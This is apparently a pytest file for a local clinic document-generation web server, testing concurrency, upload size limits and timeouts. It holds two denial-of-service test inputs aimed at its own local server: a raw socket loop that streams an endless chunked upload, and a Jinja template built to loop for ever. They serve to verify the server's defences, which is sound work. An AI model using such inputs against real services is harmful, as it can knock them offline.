        page = opener.open(server.url + "/", timeout=30).read().decode()
        token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)

        def make(number: int) -> tuple[int, str, float]:
            form = {
                "csrf_token": token, "patient": f"Patient Number{number}", "dob": "1985-06-15",
                "locale": "en_GB", "treatment": "REJUV", "area": "FACE", "action": "both",
            }  # fmt: skip
            started = time.monotonic()
            data = urllib.parse.urlencode(form).encode()
            with opener.open(server.url + "/", data=data, timeout=180) as response:
                return number, response.read().decode(), time.monotonic() - started

        started = time.monotonic()
        with concurrent.futures.ThreadPoolExecutor(8) as pool:
            answers = list(pool.map(make, range(8)))
        assert time.monotonic() - started < 180
        for number, page, _seconds in answers:
            names = re.findall(r"(?:consent|record|estimate)-Patient-Number\d+", page)
            assert sorted(set(names)) == [
                f"consent-Patient-Number{number}",
                f"estimate-Patient-Number{number}",
                f"record-Patient-Number{number}",
            ]
            links = re.findall(r'href="(/files/[^"]+)"', page)
            assert len(links) == 6  # three documents, each as PDF and Word file
            pdf = tmp_path / f"{number}.pdf"
            pdf.write_bytes(opener.open(server.url + links[0], timeout=30).read())
            text = pdf_text(pdf)
            assert f"Patient Number{number}" in text
            assert not re.search(rf"Patient Number(?!{number}\b)\d", text)
    finally:
        server.send_signal(signal.SIGINT)
        server.wait(timeout=60)


def test_a_chunked_upload_without_end_is_refused_at_the_limit(workspace, tmp_path):
    """Waitress read a chunked body of up to 1 GB before the desk could refuse it."""
    server = start_desk(workspace, tmp_path / "documents")
    try:
        port = int(server.url.rsplit(":", 1)[1])
        with socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
            connection.sendall(
                b"POST /batch HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n"
                b"Content-Type: application/octet-stream\r\n\r\n"
            )
            chunk = b"%x\r\n" % 1_000_000 + b"x" * 1_000_000 + b"\r\n"
            sent = 0
            with contextlib.suppress(BrokenPipeError, ConnectionResetError):
                while sent < 300:  # 300 MB, if the server took them all
                    connection.sendall(chunk)
                    sent += 1
            answer = connection.recv(100)
        assert answer.startswith(b"HTTP/1.1 413"), answer
        assert sent < 120  # it stopped reading at its limit (MAX_APPOINTMENTS_BYTES, 50 MB)
        resident = Path(f"/proc/{server.pid}/status").read_text()
        assert int(re.search(r"VmRSS:\s+(\d+)", resident).group(1)) < 300_000  # kB
    finally:
        server.send_signal(signal.SIGINT)
        server.wait(timeout=60)


def test_pages_are_answered_while_a_looping_template_holds_patient_work(
    workspace, tmp_path, monkeypatch
):
    """Six forms sent at once to a desk whose template loops for ever held every thread of
    the server: a plain page waited as long as the template's time limit. Pages are answered
    at once; each form is told why nothing was made, and once a try was stopped, the next
    are told at once, until the template changes."""
    from test_documents import replace_in_template

    from docgen.web.server import desk_server

    monkeypatch.setattr("docgen.web.common.DOCUMENTS_CPU_SECONDS", 10)
    consent = workspace.template("consent.docx")
    working = consent.read_bytes()
    endless = "{% set s = 'x' * 999999 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}"
    replace_in_template(consent, "{{ patient.name }}", endless)
    output = tmp_path / "documents"
    server = desk_server(create_app(workspace, output), "127.0.0.1", 0)
    serving = threading.Thread(target=server.run, daemon=True)
    serving.start()
    url = f"http://127.0.0.1:{server.effective_port}/"
    opener = urllib.request.build_opener(
        urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar())
    )
    token = re.search(
        r'name="csrf_token" value="([^"]+)"', opener.open(url, timeout=30).read().decode()
    ).group(1)
    form = urllib.parse.urlencode({
        "csrf_token": token, "patient": "Ann Lee", "dob": "1985-06-15", "locale": "en_GB",
        "treatment": "REJUV", "area": "FACE", "action": "consent",
    }).encode()  # fmt: skip

    def send_form(_number: int = 0) -> tuple[int, str, float]:
        started = time.monotonic()
        try:
            with opener.open(url, data=form, timeout=120) as response:
                return response.status, response.read().decode(), time.monotonic() - started
        except urllib.error.HTTPError as refused:
            return refused.code, refused.read().decode(), time.monotonic() - started

    try:
        with concurrent.futures.ThreadPoolExecutor(6) as pool:
            forms = pool.map(send_form, range(6))
            time.sleep(0.5)  # the forms are in the server's threads
            for page in ("", "price-sheets", "batch", "translations", "records"):
                started = time.monotonic()
                with opener.open(url + page, timeout=60) as response:
                    assert response.status == 200
                assert time.monotonic() - started < 5, page  # the forms hold theirs 10 s
            answers = list(forms)
        pages = [html.unescape(page) for _status, page, _seconds in answers]
        assert [status for status, _page, _seconds in answers] == [422] * 6
        # over its processor time, or on a busy machine the render's or the worker's time on
        # the clock first
        assert all("and was stopped" in page or "went over its limits" in page for page in pages)
        earlier = "on an earlier try: it is tried again once a template"
        assert sorted(earlier in page for page in pages) == [False] * 2 + [True] * 4  # 2 turns
        status, page, seconds = send_form()
        assert status == 422 and seconds < 5
        assert earlier in html.unescape(page)
        consent.write_bytes(working)
        status, page, _seconds = send_form()
        assert status == 200 and "Documents made" in page
        assert not list(output.glob(".docgen-making-*"))
    finally:
        server.close()
        serving.join(timeout=30)


def test_a_hostile_template_in_a_desk_batch_stops_its_batch_not_the_desk(
    workspace, tmp_path, monkeypatch
):
    """The desk's batches are made in worker processes the operating system stops when one
    document takes too long, even on a computer of one processor (one job)."""
    from test_web import finished_job_page, upload

    monkeypatch.setattr(os, "cpu_count", lambda: 1)
    client, output = desk_with_an_endless_template(workspace, tmp_path, monkeypatch, "consent")
    started = time.monotonic()
    response = upload(client, "day.csv", b"Patient,Treatment,Areas\nAnn Lee,REJUV,FACE\n")
    page = finished_job_page(client, response.headers["Location"])
    assert time.monotonic() - started < 15  # the template's own time limit is 20 s
    assert "one document took more than 2 s of processor time" in page
    assert not list(output.rglob("*.docx"))
    assert client.get("/").status_code == 200
    left = [Path(f"/proc/{pid}/cmdline").read_bytes() for pid in descendants(os.getpid())]
    assert all(b"forkserver" in c or b"resource_tracker" in c for c in left), left


def test_a_desk_worker_stopped_after_one_document_leaves_none(workspace, tmp_path, monkeypatch):
    """The consent form was written, then the estimate's template ran for ever: the form stayed
    in the desk's folder although the page said nothing was made."""
    from test_web import patient_form

    client, output = desk_with_an_endless_template(workspace, tmp_path, monkeypatch, "estimate")
    response = client.post("/", data=patient_form(client, action="both"), follow_redirects=True)
    assert response.status_code == 422
    assert "went over its limits" in response.get_data(as_text=True)
    assert list(output.iterdir()) == []
    response = client.post("/", data=patient_form(client, action="consent"), follow_redirects=True)
    assert response.status_code == 200  # the form alone: made, then moved out of its folder
    assert sorted(path.suffix for path in output.iterdir()) == [".docx", ".docx", ".pdf", ".pdf"]
    assert sorted(path.name.split("-")[0] for path in output.iterdir()) == [
        "consent", "consent", "record", "record"
    ]  # fmt: skip
